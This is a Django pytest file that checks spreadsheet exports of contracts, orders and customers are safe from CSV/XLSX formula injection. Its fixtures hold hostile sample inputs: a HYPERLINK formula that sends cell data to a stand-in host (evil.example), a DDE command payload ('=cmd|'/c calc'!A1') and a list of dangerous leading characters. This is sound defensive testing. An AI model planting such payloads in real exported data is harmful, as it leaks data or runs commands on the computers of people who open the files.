"""Issue 7 item 2: no export runs a formula. Every CSV and XLSX — the contract
register and the admin's exports of orders, contracts and customers — writes text a
user typed as text: XLSX text cells (never formulas), CSV with a leading apostrophe;
numbers stay numbers and a phone number stays readable."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from orders import services
from orders.models import Customer, Order
from orders.resources import ContractResource, CustomerResource, OrderResource
from tests.walk import PDF, walk

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
PHONE = "+86 138 0000 0000"


@pytest.fixture
def data(demo_users, settings, tmp_path):
    """A contract whose customer, contract number and reason start like formulas."""
    settings.MEDIA_ROOT = tmp_path
    order = walk(demo_users, "contract")
    Customer.objects.filter(pk=order.customer_id).update(name=FORMULA, phone=PHONE)
    services.contract_record(
        actor=demo_users["sales1"],
        order=order,
        number="=1+2",
        signed_on=timezone.localdate(),
        amount=Decimal("3700.00"),
        amount_reason="@SUM(A1:A9) 客户让价",
        uploaded=SimpleUploadedFile("合同.pdf", PDF, "application/pdf"),
    )
    Order.objects.filter(pk=order.pk).update(
        customer_po="-5", special_requirements="\t=cmd|'/c calc'!A1"
    )
    return demo_users


def client(user) -> Client:
    c = Client()
    c.force_login(user)
    return c


def read_csv(response) -> list[list[str]]:
    text = b"".join(
        response.streaming_content if response.streaming else [response.content]
    )
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))


def read_xlsx(response):
    book = load_workbook(io.BytesIO(response.content))
    return book.active


def cells_xlsx(sheet):
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def assert_no_formula_cell(sheet):
    formulas = [c.coordinate for c in cells_xlsx(sheet) if c.data_type == "f"]
    assert formulas == []


# --- the contract register ------------------------------------------------------------


def test_the_contract_register_csv_prefixes_formula_text_and_keeps_numbers(data):
    response = client(data["sales1"]).get("/orders/contracts/?export=csv")
    header, row = read_csv(response)
    cell = dict(zip(header, row, strict=True))
    assert cell["合同编号"] == "'=1+2"
    assert cell["客户"] == "'" + FORMULA
    assert cell["金额不符原因"] == "'@SUM(A1:A9) 客户让价"
    assert cell["合同金额（元）"] == "3700.00"  # a number, not "'3700.00"


def test_the_contract_register_xlsx_writes_text_cells_and_real_numbers(data):
    response = client(data["sales1"]).get("/orders/contracts/?export=xlsx")
    sheet = read_xlsx(response)
    assert_no_formula_cell(sheet)
    values = {c.value for c in cells_xlsx(sheet)}
    assert "=1+2" in values and FORMULA in values  # shown as typed, as text
    amount = next(
        c for c in cells_xlsx(sheet) if c.value == Decimal("3700") or c.value == 3700
    )
    assert amount.data_type == "n"


# --- the admin's exports --------------------------------------------------------------


def admin_export(user, model: str, resource, file_format: int):
    """Post the admin's export form as the browser does: the format (0 CSV, 1 XLSX)
    and every field ticked."""
    fields = {
        f"{resource.__name__.lower()}_{name}": "on"
        for name in resource().get_export_order()
    }
    return client(user).post(
        f"/admin/orders/{model}/export/",
        {"format": str(file_format), "resource": "0", **fields},
    )


@pytest.mark.parametrize(
    ("model", "resource"),
    [
        ("order", OrderResource),
        ("contract", ContractResource),
        ("customer", CustomerResource),
    ],
)
def test_the_admin_exports_are_safe_in_csv(data, model, resource):
    response = admin_export(data["admin"], model, resource, 0)
    assert response.status_code == 200, response
    rows = read_csv(response)
    text = [value for row in rows[1:] for value in row]
    starts = ("=", "+", "-", "@", "\t", "\r")
    dangerous = [v for v in text if v.startswith(starts)]
    assert dangerous == []
    if model == "customer":
        assert "'" + PHONE in text  # readable, not a formula, not a number
    if model == "order":
        assert "'-5" in text  # the customer's PO is text
        assert "3800.00" in text  # the amount is a number


@pytest.mark.parametrize(
    ("model", "resource"),
    [
        ("order", OrderResource),
        ("contract", ContractResource),
        ("customer", CustomerResource),
    ],
)
def test_the_admin_exports_are_safe_in_xlsx(data, model, resource):
    response = admin_export(data["admin"], model, resource, 1)
    assert response.status_code == 200, response
    sheet = read_xlsx(response)
    assert_no_formula_cell(sheet)
    values = [c.value for c in cells_xlsx(sheet)]
    assert FORMULA in values  # the customer's name, as typed, in a text cell
    if model == "customer":
        assert PHONE in values
    if model == "order":
        amounts = [c for c in cells_xlsx(sheet) if c.data_type == "n"]
        assert amounts, "amounts stay numbers"


@pytest.mark.parametrize("model", ["order", "contract", "customer"])
def test_an_unknown_parameter_on_the_admins_export_is_refused_not_a_500(
    demo_users, model
):
    # given the admin, who may export
    admin = Client(raise_request_exception=False)
    admin.force_login(demo_users["admin"])

    # when the export URL carries a parameter the list does not know
    response = admin.get(f"/admin/orders/{model}/export/?format=csv")

    # then it is refused with a clear Chinese message, not an error page
    assert response.status_code == 400
    body = response.content.decode()
    assert 'data-test="bad-request"' in body
    assert "format" in body and "导出" in body
    # and the same page with a filter the list knows still offers the export
    known = {"order": "?stage__exact=draft", "contract": "", "customer": "?q=x"}
    assert admin.get(f"/admin/orders/{model}/export/{known[model]}").status_code == 200
